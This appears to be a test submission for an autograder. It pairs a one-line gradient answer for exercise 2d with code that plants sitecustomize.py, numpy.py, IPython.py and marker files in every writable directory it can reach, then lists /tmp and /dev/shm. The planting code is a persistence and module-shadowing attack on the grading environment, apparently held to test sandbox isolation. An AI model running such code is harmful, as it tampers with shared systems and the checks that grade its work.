# /// attack
# tries = "leaves files everywhere it can write"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import glob
import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "..", "/", os.path.expanduser("~"), "/dev", "/run"):
    for name in ("@MARK@", "sitecustomize.py", "numpy.py", "IPython.py"):
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write("print('@MARK@')")
        except OSError:
            continue
print(sorted(glob.glob("/tmp/**", recursive=True))[:50], os.listdir("/dev/shm"))
